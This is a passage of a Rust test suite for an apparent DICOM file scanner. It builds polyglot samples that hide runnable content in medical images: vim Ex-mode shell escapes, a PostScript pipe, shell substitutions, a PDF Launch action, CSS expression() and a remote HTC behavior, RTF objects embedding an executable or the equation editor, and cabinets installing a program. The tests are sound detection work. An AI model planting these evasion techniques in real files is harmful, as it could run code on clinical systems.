        b"\n7 0 obj\n<< /Type /C#61talog /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj\n"
            .to_vec();
    let with_trailer = in_private_element(&[&objects[..], trailer].concat());
    let without_trailer = in_private_element(&objects);
    let escaped_inline = in_private_element(&inline);
    let mut eps = b"%!PS-Adobe-3.0 EPSF-3.0\n".to_vec();
    eps.resize(128, b' ');
    eps.extend_from_slice(&with_trailer[128..]);
    for file in [&with_trailer, &without_trailer, &escaped_inline, &eps] {
        assert!(!file.windows(5).any(|w| w == b"%PDF-"), "no PDF header");
        // mutool opens it and finds the catalog's action.
        let (ok, shown) = read_with("mutool", &["show"], file, &["trailer/Root/OpenAction/S"]);
        assert!(ok, "{shown}");
        assert!(
            shown.contains("/JavaScript") || shown.contains("/Launch"),
            "{shown}"
        );
        let inspection = inspect(file);
        let alerts = alerts(&inspection);
        assert!(
            alerts
                .iter()
                .any(|a| a.contains("JavaScript") || a.contains("Launch")),
            "{:?}",
            inspection.observations
        );
    }
    // qpdf needs the trailer, and reads the action through it.
    for file in [&with_trailer, &eps] {
        let (ok, shown) = read_with("qpdf", &["--show-object=1"], file, &[]);
        assert!(ok && shown.contains("/OpenAction 2 0 R"), "{shown}");
        assert!(shown.contains("can't find PDF header"), "{shown}");
        let (ok, shown) = read_with("qpdf", &["--show-object=2"], file, &[]);
        assert!(ok && shown.contains("/S /JavaScript"), "{shown}");
    }
    let (ok, shown) = read_with("qpdf", &["--show-object=1"], &without_trailer, &[]);
    assert!(!ok, "qpdf needs a trailer: {shown}");

    // No action, or no catalog: what a reader would show does nothing.
    let quiet = [
        b"\n1 0 obj\n<</Type/Catalog/Pages 3 0 R>>\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n".as_slice(),
        b"\n2 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n",
        b"1 0 obj 2 0 obj endobj obj",
    ];
    for value in quiet {
        let file = in_private_element(value);
        let inspection = inspect(&file);
        assert!(
            inspection
                .observations
                .iter()
                .all(|o| o.severity == Severity::Info),
            "{value:?}: {:?}",
            inspection.observations
        );
    }
}

/// Issue 10 (session 17): keys given to `feedkeys()` are typed as if by the user; in Ex
/// mode (`vim -es < file`) they are read as Ex command lines, and with the `x` flag run
/// as Normal-mode keys. vim -es ran each (created RAN) and the file was clean.
#[test]
fn keys_fed_to_vim_with_feedkeys_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for escape in [
        format!("call feedkeys(\":!{pipe}\\r\")"),
        format!("call feedkeys(\"!{pipe}\\<CR>\")"),
        format!("call feedkeys(\":sil !{pipe}\\r\", \"t\")"),
        format!("call feedkeys(\"!!{pipe}\\r\", \"nx\")"),
        format!("call feedkeys(\":!\" . \"{pipe}\\r\")"),
        format!("let k = \":!{pipe}\\r\"\ncall feedkeys(k)"),
        format!("let @a = \":!{pipe}\\r\"\ncall feedkeys(@a)"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{escape}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {escape}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape}: {found:?}"
        );
    }
    // Keys that run no command: completion keys, an Escape, a motion.
    for keys in [
        "call feedkeys(\"\\<C-X>\\<C-O>\", 'n')",
        "call feedkeys(\"\\e\", 'tni')",
        "call feedkeys(\"gqq\")",
    ] {
        let file = format!("{keys}\n");
        assert_eq!(
            pacsguard_dicom::find_ex_command(file.as_bytes()),
            None,
            "{keys}"
        );
    }
}

/// Issue 10 (session 17): a register filled by yanking (or deleting) lines of the buffer
/// that the script wrote there (`:put =`, `setline()`, `append()`, `:normal` insert
/// keys, a `:substitute` replacement), then run as Ex lines (`@a`, `*a`, `@"`): vim -es
/// ran each (created RAN) and the file was clean. Lines the script writes from a
/// variable are known only at run time (an alert, as for `:execute`); vim's own
/// `syntax/hitest.vim` yanks and runs lines it did not write itself: no finding.
#[test]
fn registers_yanked_from_lines_the_script_writes_are_followed() {
    let pipe = "sh -c 'echo x > RAN'";
    for script in [
        "put ='!sh -c ''echo x > RAN'''\n%yank a\n@a".to_owned(),
        format!("call setline(1, \"!{pipe}\")\nyank a\n@a"),
        format!("call append(0, \"!{pipe}\")\n1y a\n:@a"),
        format!("call setline(1, [\"!{pipe}\"])\n%d a\n*a"),
        format!("norm! i!{pipe}\n%yank a\n@a"),
        format!("norm! o!{pipe}\n%yank a\n@a"),
        format!("s/^/!{pipe}/\n%yank a\n@a"),
        format!("call setline(1, \"!{pipe}\")\nnorm! \"ayy\n@a"),
        format!("call setline(1, \"!{pipe}\")\nnorm! yy\n@\""),
        format!("call setline(1, \"!\" . \"{pipe}\")\n%yank b\nexe \"@b\""),
        format!("let x = \"!{pipe}\"\ncall setline(1, x)\n%yank a\n@a"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{script}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {script}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{script}: {found:?}"
        );
    }
    for script in [
        "call setline(1, \"echo 1\")\n%yank a\n@a\n".to_owned(),
        "redir @a\nsilent highlight\nredir END\nput a\n% substitute /^[^ ]*/syn keyword &\\t&/\n% yank a\n@a\n".to_owned(),
        "*tag* help text\n%yank a\n".to_owned(),
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(script.as_bytes()), None, "{script}");
    }
    if let Ok(hitest) = std::fs::read("/usr/share/vim/vim90/syntax/hitest.vim") {
        assert_eq!(pacsguard_dicom::find_ex_command(&hitest), None);
    }
}

/// Issue 10 (session 18): lines written into the buffer by strings run as Ex lines
/// (`exe "norm! i…"`, `exe "call setline(…)"`, `call execute("put =…")`), yanked by one
/// (`exe "%yank a"`, `exe "norm! \"ayy"`), run by a ranged `:@` (`%@a`, `1,$@a`) or
/// after `@@`, and vim 9's `:source` of the buffer (`:so`, `:%so`, `:1,$source`, `so %`
/// after `:sav`) or of a file the script wrote (`:w`, `writefile()`): vim -es ran each
/// (created RAN) and the file was clean.
#[test]
fn buffer_lines_written_by_strings_or_run_by_source_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for script in [
        format!("exe \"norm! i!{pipe}\"\n%yank a\n@a"),
        format!("exe \"call setline(1, \\\"!{pipe}\\\")\"\n%yank a\n@a"),
        "exe \"put ='!sh -c ''echo x > RAN'''\"\n%yank a\n:@a".to_owned(),
        format!("call execute(\"norm! o!{pipe}\")\n%yank a\n@a"),
        format!("exe \"norm! i!{pipe}\"\n%d a\n*a"),
        format!("exe \"norm! i!{pipe}\"\n1y\n@0"),
        format!("exe \"exe \\\"norm! i!{pipe}\\\"\"\n%y a\n@a"),
        format!("call setline(1, \"!{pipe}\")\nexe \"%yank a\"\n@a"),
        format!("exe \"norm! i!{pipe}\"\nexe \"norm! \\\"ayy\"\n@a"),
        format!("call setline(1, \"!{pipe}\")\n%yank a\n%@a"),
        format!("call setline(1, \"!{pipe}\")\n%yank a\n1,$@a"),
        format!(
            "call setline(1, \"echo 1\")\n%yank a\n@a\ncall setline(1, \"!{pipe}\")\n%yank a\n@@"
        ),
        format!("call setline(1, \"!{pipe}\")\nso"),
        format!("call setline(1, \"!{pipe}\")\n%so"),
        format!("exe \"norm! i!{pipe}\"\n1,$sou"),
        format!("call setline(1, \"!{pipe}\")\nexe \"%so\""),
        format!("call setline(1, \"!{pipe}\")\nsav! z.vim\nso %"),
        format!("call setline(1, \"!{pipe}\")\nw! w.vim\nso w.vim"),
        format!("call writefile([\"!{pipe}\"], \"w.vim\")\nso w.vim"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{script}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {script}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{script}: {found:?}"
        );
    }
    // Lines that run nothing, a file sourced that the script did not write, lines
    // written and never run: no finding.
    for script in [
        "exe \"norm! iecho 1\"\n%yank a\n@a\n",
        "call setline(1, \"echo 1\")\nso\n",
        "call setline(1, \"!sh -c 'echo x > RAN'\")\nso $VIMRUNTIME/syntax/c.vim\n",
        "exe \"norm! i!sh -c 'echo x > RAN'\"\n",
    ] {
        assert_eq!(
            pacsguard_dicom::find_ex_command(script.as_bytes()),
            None,
            "{script}"
        );
    }
}

/// Review s18-r10: buffer lines the script writes, run as `:normal` keys of a register
/// they were yanked into (`norm! @z` with a `:!sh …` line, `exe "norm! @z"`, `norm!
/// 1@z`), and run by `:execute` of `getline()` (`exe getline(1)`, `g/^/exe
/// getline('.')`, `call execute(getline(1, '$'))`), inserted by `CTRL-R =`, or echoed
/// under `:redir` into a register or a file then run: vim -es ran each (created RAN) and
/// the file was clean.
#[test]
fn buffer_lines_run_as_keys_or_by_getline_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for script in [
        format!("call setline(1, \":!{pipe}\")\n%y z\nnorm! @z"),
        format!("call setline(1, \":!{pipe}\")\n1y z\nexe \"norm! @z\""),
        format!("call setline(1, \":!{pipe}\")\n%y z\nnorm! 1@z"),
        format!("call setline(1, \"!{pipe}\")\ng/^/exe getline('.')"),
        format!("call setline(1, \"!{pipe}\")\nexe getline(1)"),
        format!("call setline(1, \"!{pipe}\")\ncall execute(getline(1, '$'))"),
        format!("call setline(1, \"!{pipe}\")\nexe \"g/^/exe getline('.')\""),
        // Echoed into a register, a file or a variable by `:redir`.
        format!("redir @a\necho \"!{pipe}\"\nredir END\n@a"),
        format!("redir! > r.vim\necho \"!{pipe}\"\nredir END\nso r.vim"),
        // Inserted as an expression's value by `CTRL-R =`.
        format!("exe \"norm! i\\<C-R>=\\\"!{pipe}\\\"\\<CR>\"\n%y a\n@a"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{script}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {script}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{script}: {found:?}"
        );
    }
    for script in [
        "call setline(1, \"echo 1\")\ng/^/exe getline('.')\n",
        "call setline(1, \"!sh -c 'echo x > RAN'\")\nlet x = getline(1)\n",
    ] {
        assert_eq!(
            pacsguard_dicom::find_ex_command(script.as_bytes()),
            None,
            "{script}"
        );
    }
}

/// Review s17-r10: keys fed through `call("feedkeys", […])`, through a function
/// reference (`function("feedkeys")`, `funcref('feedkeys')`), and by a `feedkeys()`
/// call in a string run as an Ex line (`exe "call feedkeys(…)"`): vim -es ran each
/// (created RAN) and the file was clean. vim's own sqlcomplete.vim, which feeds keys
/// from a variable through `exec`, stays clean.
#[test]
fn keys_fed_to_vim_through_call_funcref_or_execute_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for escape in [
        format!("call call(\"feedkeys\", [\":!{pipe}\\r\"])"),
        format!("call call('feedkeys', [\"!{pipe}\\<CR>\", 'n'])"),
        format!("exe \"call feedkeys(\\\":!{pipe}\\\\r\\\")\""),
        "execute 'call feedkeys(\":!sh -c \\\"echo x > RAN\\\"\\r\")'".to_owned(),
        format!("let F = function(\"feedkeys\")\ncall F(\":!{pipe}\\r\")"),
        format!("let F = function('feedkeys', [\":!{pipe}\\r\"])\ncall F()"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{escape}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {escape}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape}: {found:?}"
        );
    }
    for keys in [
        "exec 'call feedkeys(\"\\'.g:ftplugin_sql_omni_key_right.'\", \"n\")'",
        "call call(\"feedkeys\", [\"\\<C-X>\\<C-O>\", 'n'])",
        "exe \"call feedkeys(\\\"gqq\\\")\"",
    ] {
        let file = format!("{keys}\n");
        assert_eq!(
            pacsguard_dicom::find_ex_command(file.as_bytes()),
            None,
            "{keys}"
        );
    }
    if let Ok(sql) = std::fs::read("/usr/share/vim/vim90/autoload/sqlcomplete.vim") {
        assert_eq!(pacsguard_dicom::find_ex_command(&sql), None);
    }
}

/// Review s17-r10: an `eexec` in a procedure never run, in the PostScript preamble of a
/// DICOM file, hid the pipe after it: the model decrypted the bytes after the token
/// and read no further, and gs -dNOSAFER ran the pipe (created RAN) on a clean file.
#[test]
fn an_eexec_token_in_a_dicom_preamble_hides_nothing_after_it() {
    let preamble = format!("{:<128}", "{ eexec } pop (%pipe%touch RAN) (w) file pop");
    let file = kit::DicomBuilder::ct("1.2.3.45")
        .preamble(preamble.as_bytes())
        .element(0x0008, 0x103E, *b"LO", b"Head ")
        .build();
    if Path::new("/usr/bin/gs").exists() {
        assert!(
            runs_in_dir(
                "gs",
                &[
                    "-q",
                    "-dNOSAFER",
                    "-dBATCH",
                    "-dNOPAUSE",
                    "-dNODISPLAY",
                    "f"
                ],
                b"",
                &[("f", &file)],
            ),
            "gs did not run the preamble"
        );
    }
    let inspection = inspect(&file);
    assert!(
        inspection.observations.iter().any(|o| {
            o.severity == Severity::Alert && o.format == Some(pacsguard_dicom::Format::PostScript)
        }),
        "{inspection:?}"
    );
}

/// Review s17-r10: `feedkeys()` in a lambda's body (`timer_start(0, {-> feedkeys(…)})`,
/// `let F = {-> feedkeys(…)}`), as a method (`":!sh …\r"->feedkeys()`) and in a string
/// evaluated by `map()`: vim -es ran each (created RAN) and the file was clean.
#[test]
fn keys_fed_to_vim_from_a_lambda_a_method_or_a_string_are_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for escape in [
        format!("call timer_start(0, {{-> feedkeys(\":!{pipe}\\r\")}})\nsleep 100m"),
        format!("let F = {{-> feedkeys(\":!{pipe}\\r\")}}\ncall F()"),
        format!("eval \":!{pipe}\\r\"->feedkeys()"),
        format!("call map([\":!{pipe}\\r\"], \"feedkeys(v:val)\")"),
    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{escape}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {escape}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape}: {found:?}"
        );
    }
}

/// Walk-around (session 19): a command substitution written as a whole text value
/// (`` `sh -c …` `` or `$(sh -c …)` as a UT or LO value) is one word, for dash, with
/// the element's binary header before it on the same line; dash runs the substitution
/// all the same. The word as a whole was not text, so the substitution was not read.
#[test]
fn a_substitution_glued_to_an_elements_binary_header_is_found() {
    let pipe = "sh -c 'echo x > RAN'";
    for (vr, value) in [
        (*b"UT", format!("`{pipe}`")),
        (*b"UT", format!("$({pipe})")),
        (*b"LO", format!("x`{pipe}`y")),
        (*b"LT", format!("\"$({pipe})\"")),
    ] {
        // The value's length is in the header: padded so that its low byte is a
        // letter, not a quote or a parenthesis that would end dash's parse before.
        let mut value = value.into_bytes();
        while !(value.len() as u8).is_ascii_alphabetic() || value.len() % 2 == 1 {
            value.push(b' ');
        }
        // Written element by element: the builder's CT holds (0008,0060), whose tag is
        // a chance backquote that dash pairs with the value's.
        let mut file = vec![0u8; 128];
        file.extend_from_slice(b"DICM");
        let mut meta = Vec::new();
        kit::write_element(&mut meta, (0x0002, 0x0001), *b"OB", &[0, 1]);
        kit::write_element(
            &mut meta,
            (0x0002, 0x0002),
            *b"UI",
            b"1.2.840.10008.5.1.4.1.1.7",
        );
        kit::write_element(&mut meta, (0x0002, 0x0003), *b"UI", b"1.2.3.46");
        kit::write_element(&mut meta, (0x0002, 0x0010), *b"UI", b"1.2.840.10008.1.2.1");
        kit::write_element(
            &mut file,
            (0x0002, 0x0000),
            *b"UL",
            &(meta.len() as u32).to_le_bytes(),
        );
        file.extend_from_slice(&meta);
        kit::write_element(
            &mut file,
            (0x0008, 0x0016),
            *b"UI",
            b"1.2.840.10008.5.1.4.1.1.7",
        );
        kit::write_element(&mut file, (0x0008, 0x0018), *b"UI", b"1.2.3.46");
        kit::write_element(&mut file, (0x0010, 0x0010), *b"PN", b"DOE^JANE");
        kit::write_element(&mut file, (0x0019, 0x0010), *b"LO", b"ACME");
        kit::write_element(&mut file, (0x0019, 0x1010), vr, &value);
        let value = String::from_utf8_lossy(&value).into_owned();
        assert!(
            runs_in_dir("dash", &["f"], b"", &[("f", &file)]),
            "dash did not run {value:?}"
        );
        let inspection = inspect(&file);
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Alert
                    && o.format == Some(Format::Shell)
                    && o.detail.contains("(\"sh -c 'echo x > RAN'")),
            "{value:?}: {inspection:#?}"
        );
    }
}

/// Python's `html.parser` gives back the raw text of each `<style>` element it reads.
fn html_parser_style(markup: &str) -> String {
    let program = "import sys, html.parser\n\
        class P(html.parser.HTMLParser):\n\
        \x20   def handle_data(self, data):\n\
        \x20       if self.lasttag == 'style': print(repr(data))\n\
        p = P(); p.feed(sys.stdin.read()); p.close()\n";
    let mut child = Command::new("python3")
        .arg("-c")
        .arg(program)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(markup.as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("python3 output");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Walk-around (session 19): `expression()` and HTC behaviors ran from a `style`
/// attribute were alerts, the same CSS in a `<style>` element (a style sheet, which
/// mshta's engine applies alike) was clean, as were CSS escapes and comments inside the
/// keyword (`\65xpression(`, `exp/**/ression(`), which that engine reads as `expression(`.
#[test]
fn script_in_a_style_sheet_is_found_as_in_a_style_attribute() {
    let cases = [
        (
            "<style>body{background:expression(eval(name))}</style>",
            "expression(eval(name))",
        ),
        (
            "<STYLE type=text/css>\n.x { behavior : url(http://x.example/a.htc) }\n</STYLE>",
            "url(http://x.example/a.htc)",
        ),
        (
            "<style>b{width:\\65xpression(alert(1))}</style>",
            "xpression(alert(1))",
        ),
        (
            "<style>b{width:exp/**/ression(alert(1))}</style>",
            "ression(alert(1))",
        ),
        (
            "<style>@import 'javascript:alert(1)';</style>",
            "javascript:alert(1)",
        ),
        ("<div style=\"width:\\65xpression(alert(1))\">x</div>", ""),
    ];
    for (markup, parsed) in cases {
        if !parsed.is_empty() {
            let seen = html_parser_style(markup);
            assert!(seen.contains(parsed), "html.parser reads {markup}: {seen}");
        }
        let dicom = kit::DicomBuilder::ct("1.2.3.47")
            .element(0x0019, 0x0010, *b"LO", b"ACME")
            .element(0x0019, 0x1010, *b"UT", markup.as_bytes())
            .build();
        assert!(
            has_alert(&inspect(&dicom), FindingKind::ActiveContent),
            "{markup}"
        );
        let wide: Vec<u8> = markup.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let found = find_markup(&wide);
        assert!(
            found.is_some_and(|m| m.severity == Severity::Alert),
            "UTF-16 {markup}"
        );
    }
    // An ordinary style sheet, or a word like "expressions" in text, runs nothing.
    for inert in [
        "<style>p { color: red; font: 12px/1.5 serif } /* expression of */</style><p>x</p>",
        "<style>\n</style>Gene expression (profile) was normal.",
    ] {
        assert_eq!(find_markup(inert.as_bytes()), None, "{inert}");
    }
    // A style sheet longer than the limit without script in its reach is a warning
    // naming the limit; the script within the limit is found.
    let long = format!(
        "<style>{}</style>",
        "p{color:red}".repeat(pacsguard_dicom::MAX_STYLE_BYTES / 12 + 1)
    );
    let found = find_markup(long.as_bytes()).expect("a warning");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(found.detail.contains("MAX_STYLE_BYTES"), "{found:?}");
    let within = format!(
        "<style>{}b{{x:expression(1)}}</style>",
        "p{color:red}".repeat(pacsguard_dicom::MAX_STYLE_BYTES / 12 - 2)
    );
    assert!(
        find_markup(within.as_bytes()).is_some_and(|m| m.severity == Severity::Alert),
        "within the limit"
    );
}

/// Walk-around (session 19): an RTF document whose embedded object runs (a Package
/// holding a real PE, the equation editor) was an alert as a file of its own and clean in
/// a private element of a DICOM file, where an OLE document carrying a macro was found.
/// The document is judged to the brace that closes it, as Word reads it: a package named
/// in the data set after it is not the document's.
#[test]
fn an_rtf_document_in_an_element_is_judged_by_the_objects_it_embeds() {
    let pe = kit::real_pe();
    let label = b"invoice.exe\0";
    let mut native = vec![2, 0];
    native.extend_from_slice(label);
    native.extend_from_slice(b"C:\\t\\invoice.exe\0");
    native.extend_from_slice(&0x0003_0000u32.to_le_bytes());
    native.extend_from_slice(&(17u32).to_le_bytes());
    native.extend_from_slice(b"C:\\t\\invoice.exe\0");
    native.extend_from_slice(&(pe.len() as u32).to_le_bytes());
    native.extend_from_slice(&pe);
    let mut ole1 = Vec::new();
    ole1.extend_from_slice(&0x0501u32.to_le_bytes());
    ole1.extend_from_slice(&2u32.to_le_bytes());
    ole1.extend_from_slice(&8u32.to_le_bytes());
    ole1.extend_from_slice(b"Package\0");
    ole1.extend_from_slice(&[0; 8]);
    ole1.extend_from_slice(&(native.len() as u32).to_le_bytes());
    ole1.extend_from_slice(&native);
    let hex: String = ole1.iter().map(|b| format!("{b:02x}")).collect();
    let lines: Vec<&str> = hex
        .as_bytes()
        .chunks(128)
        .map(|c| std::str::from_utf8(c).expect("hex"))
        .collect();
    let package = format!(
        "{{\\rtf1\\ansi{{\\object\\objemb{{\\*\\objclass Package}}\\objw100\\objh100{{\\*\\objdata {}}}}}}}",
        lines.join("\n")
    );
    let equation = "{\\rtf1{\\object\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}".to_owned();
    let plain =
        "{\\rtf1\\ansi\\deff0 {\\fonttbl{\\f0 Arial;}}Impression: stable \\{no change\\}.\\par}"
            .to_owned();
    let picture =
        "{\\rtf1{\\object{\\*\\objclass Paint.Picture}{\\*\\objdata 0105000002000000}}}".to_owned();
    // A report, then (outside the document) a note naming a package object.
    let after = format!("{plain}\\objdata 0105000002000000080000005061636b61676500");
    for (runs, rtf) in [
        (true, &package),
        (true, &equation),
        (false, &plain),
        (false, &picture),
        (false, &after),
    ] {
        // On its own, as before.
        assert_eq!(
            !alerts(&inspect(rtf.as_bytes())).is_empty(),
            runs || rtf == &after,
            "{rtf:.80}"
        );
        let dicom = kit::DicomBuilder::ct("1.2.3.48")
            .element(0x0029, 0x0010, *b"LO", b"ACME")
            .element(0x0029, 0x1010, *b"OB", rtf.as_bytes())
            .build();
        let inspection = inspect(&dicom);
        assert_eq!(
            !alerts(&inspection).is_empty(),
            runs,
            "{rtf:.80}: {:#?}",
            inspection.observations
        );
    }
}

/// Walk-around (session 19): a cabinet made by gcab that installs pip's PE launcher was an
/// alert as a file of its own and clean in a private element (its program compressed,
/// nothing for the executable search to see). One that installs no program, and chance
/// `MSCF` bytes with no cabinet header, are no alert and no warning.
#[test]
fn a_cabinet_in_an_element_is_judged_by_the_files_it_installs() {
    let dir = TempDir::new();
    std::fs::write(dir.path("setup.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("font.ttf"), b"font data").expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    run(
        "gcab",
        &["-c", "-z", "evil.cab", "setup.exe", "notes.txt"],
        &dir.0,
    );
    run(
        "gcab",
        &["-c", "-z", "fine.cab", "font.ttf", "notes.txt"],
        &dir.0,
    );
    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");
    let mut chance = b"MSCF\0\0\0\0".to_vec();
    chance.extend((0..600u32).map(|i| (i * 37 % 251) as u8));
    for (runs, bytes) in [
        (true, read("evil.cab")),
        (false, read("fine.cab")),
        (false, chance),
    ] {
        let dicom = kit::DicomBuilder::ct("1.2.3.49")
            .element(0x0029, 0x0010, *b"LO", b"ACME")
            .element(0x0029, 0x1010, *b"OB", &bytes)
            .build();
        let inspection = inspect(&dicom);
        assert_eq!(
            !alerts(&inspection).is_empty(),
            runs,
            "{:#?}",
            inspection.observations
        );
        if !runs {
            assert!(
                inspection
                    .observations
                    .iter()
                    .all(|o| o.severity != Severity::Warning),
                "{:#?}",
                inspection.observations
            );
        }
    }
}

/// Review s19-r10: gcab extracts a cabinet whose header says version 1.2 or 1.0, whose
/// declared size (`cbCabinet`) is larger or smaller than the cabinet, or whose first
/// reserved field is not zero (libmspack and Wine's FDI only warn, or do not check):
/// each was clean in a private element (or a warning for the small size; the reserved
/// field, a not-DICOM warning on its own too) while it installs pip's PE launcher.
#[test]
fn a_cabinet_with_another_version_or_a_lying_size_in_an_element_is_found() {
    let dir = TempDir::new();
    std::fs::write(dir.path("setup.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    run(
        "gcab",
        &["-c", "-z", "evil.cab", "setup.exe", "notes.txt"],
        &dir.0,
    );
    let cab = std::fs::read(dir.path("evil.cab")).expect("read");
    let patched = |at: usize, bytes: &[u8]| {
        let mut c = cab.clone();
        c[at..at + bytes.len()].copy_from_slice(bytes);
        c
    };
    for (what, bytes) in [
        ("version 1.2", patched(24, &[2, 1])),
        ("version 1.0", patched(24, &[0, 1])),
        (
            "a size past the element",
            patched(8, &0x7fff_ffffu32.to_le_bytes()),
        ),
        ("a size of 36", patched(8, &36u32.to_le_bytes())),
        ("a reserved field set", patched(4, b"AAAA")),
    ] {
        // gcab extracts it, the program included.
        let sub = TempDir::new();
        std::fs::write(sub.path("x.cab"), &bytes).expect("write");
        run("gcab", &["-x", "x.cab"], &sub.0);
        assert_eq!(
            std::fs::read(sub.path("setup.exe")).expect("gcab extracted"),
            kit::real_pe(),
            "{what}"
        );
        let dicom = kit::DicomBuilder::ct("1.2.3.50")
            .element(0x0029, 0x0010, *b"LO", b"ACME")
            .element(0x0029, 0x1010, *b"OB", &bytes)
            .build();
        for bytes in [&bytes[..], &dicom[..]] {
            let inspection = inspect(bytes);
            assert!(
                alerts(&inspection).iter().any(|a| a.contains("setup.exe")),
                "{what}: {:#?}",
                inspection.observations
            );
        }
    }
}

/// Review s19-r10: RTF documents Word opens and whose equation editor object runs, each
/// an alert as a file of its own (the sniffer's `{\rt`) and clean in a private element:
/// a header Word accepts other than `{\rtf` (`{\rt1`, `{\rtx`); braces inside `\binN`
/// data (N raw bytes Word skips) ending the document early for the element search;
/// hex digits of `\objdata` split by groups and control words, which Word skips (as
/// oletools' rtfobj documents: "MS Word also allows ANY RTF-style tag {*} in between").
#[test]
fn rtf_headers_bin_data_and_split_hex_word_accepts_are_found_in_an_element() {
    let equation = "01050000020000000b0000004571756174696f6e2e3300";
    let cases = [
        format!("{{\\rt1{{\\object\\objupdate{{\\*\\objdata {equation}}}}}}}"),
        format!("{{\\rtx{{\\object\\objupdate{{\\*\\objdata {equation}}}}}}}"),
        format!(
            "{{\\rtf1{{\\*\\bgx\\bin4 }}}}}}}}}}{{\\object\\objupdate{{\\*\\objdata {equation}}}}}}}"
        ),
        // Session 20: `\BIN` as the object search reads it (case ignored), for the
        // document's end too (the two walkers disagreed: the element search ended the
        // document at the braces inside its data).
        format!(
            "{{\\rtf1{{\\*\\bgx\\BIN4 }}}}}}}}}}{{\\object\\objupdate{{\\*\\objdata {equation}}}}}}}"
        ),
        "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002000000\\dummy 0b0000004571\\par 756174696f6e2e3300}}}".to_owned(),
        "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002000000{\\*\\x}0b00000045717{\\*\\y{\\z 12}}56174696f6e2e3300}}}".to_owned(),
        // A parameter on the destination word: no digit of the object.
        "{\\rtf1{\\object\\objupdate{\\*\\objdata1 0105000002000000{\\*\\x}0b00000045717{\\*\\y}56174696f6e2e3300}}}".to_owned(),
        // The object as raw bytes after `\bin` (rtfobj reads them as object data).
        "{\\rtf1{\\object\\objupdate{\\*\\objdata \\bin23 \u{1}\u{5}\0\0\u{2}\0\0\0\u{b}\0\0\0Equation.3\0}}}".to_owned(),
    ];
    for rtf in &cases {
        let dicom = kit::DicomBuilder::ct("1.2.3.51")
            .element(0x0029, 0x0010, *b"LO", b"ACME")
            .element(0x0029, 0x1010, *b"OB", rtf.as_bytes())
            .build();
        for (what, bytes) in [("file", rtf.as_bytes()), ("element", &dicom[..])] {
            let inspection = inspect(bytes);
            assert!(
                alerts(&inspection).iter().any(|a| a.contains("Equation.3")),
                "{what} {rtf}: {:#?}",
                inspection.observations
            );
        }
    }
    // A report whose picture is stored as `\bin` data with braces in it stays clean.
    let picture =
        b"{\\rtf1\\ansi Impression: stable.\\par{\\pict\\wmetafile8\\bin6 }}{{}{}\\par}".to_vec();
    let dicom = kit::DicomBuilder::ct("1.2.3.52")
        .element(0x0029, 0x0010, *b"LO", b"ACME")
        .element(0x0029, 0x1010, *b"OB", &picture)
        .build();
    assert!(alerts(&inspect(&dicom)).is_empty());
}

/// Review s19-r10 (false alarm): every HTML report Word saves as a web page carries
/// `v\:* {behavior:url(#default#VML);}` in a `<style>` element: a behavior built into the
/// engine (VML drawing), no script of the file's. It was an alert once `<style>` was read;
/// a behavior from a URL, or HTML+TIME's (`#default#time2`, which runs `<t:set>`), stays
/// one.
#[test]
